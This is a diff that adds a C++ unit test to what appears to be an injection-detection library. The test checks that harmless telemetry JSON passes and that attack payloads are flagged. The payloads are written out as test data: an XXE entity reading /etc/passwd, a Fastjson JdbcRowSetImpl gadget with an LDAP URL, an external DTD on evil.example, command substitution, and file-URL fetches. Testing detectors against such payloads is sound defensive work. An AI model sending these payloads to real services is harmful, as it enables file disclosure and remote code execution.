@@ -368,5 +368,26 @@ TEST_F(ContextGradingTest, ContextsAPayloadCanForgeStillCount) {
   EXPECT_TRUE(get("/x?code=%24a%3D%27sys%27.%27tem%27%3B%24a(%27cat+flag.txt%27)%3B"));
 }
 
+// Shapes of telemetry (Sentry events, Segment-format analytics, OTLP exports of public SDK
+// fixtures that are not in the corpus).
+TEST_F(ContextGradingTest, TelemetryIsNotAnInjection) {
+  // Every Node.js warning ends with a code span naming node's own option.
+  EXPECT_FALSE(json(R"J({"breadcrumbs": {"values": [{"message": "(node:123) MaxListenersExceededWarning: Possible EventEmitter memory leak detected. 200 unpipe listeners added to [Console]. Use emitter.setMaxListeners() to increase limit\n(Use `node --trace-warnings ...` to show where the warning was created)"}]}})J"));
+  EXPECT_TRUE(json(R"J({"message": "`id`"})J"));
+  // (a short message with markup around the span is not a sentence that quotes code)
+  EXPECT_TRUE(json(R"J({"message": "see [1] (x): `cat /etc/passwd`"})J"));
+  // Stack frames name Java packages and classes; a type field or any other field still loads one.
+  EXPECT_FALSE(json(R"J({"exception": {"values": [{"module": "java.lang", "stacktrace": {"frames": [{"module": "java.lang.reflect.Method", "filename": "sun.nio.ch.Net"}]}}]}})J"));
+  EXPECT_TRUE(json(R"J({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.7/x"})J"));
+  EXPECT_TRUE(json(R"J({"x": "java.lang.Runtime"})J"));
+  // An HTML e-mail's W3C document type; an internal subset or another DTD is XXE.
+  EXPECT_FALSE(json(R"J({"inAppBody": "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\"><html><body><p>Hi</p></body></html>"})J"));
+  EXPECT_TRUE(json(R"J({"body": "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"})J"));
+  EXPECT_TRUE(json(R"J({"body": "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\"><html/>"})J"));
+  // An identifier in a "file:" namespace is no file URL; a file URL in a parameter counts.
+  EXPECT_FALSE(json(R"J({"triggerDetails": "file:1a69df39-4ebc-4f9d-ac79-05fb0356137e/7647792f-4ebc-4f9d-ac79-05fb0356137e"})J"));
+  EXPECT_TRUE(get("/fetch?url=file%3A%2F%2F%2Fetc%2Fpasswd"));
+}
+
 } // namespace
 } // namespace bulwark::detect
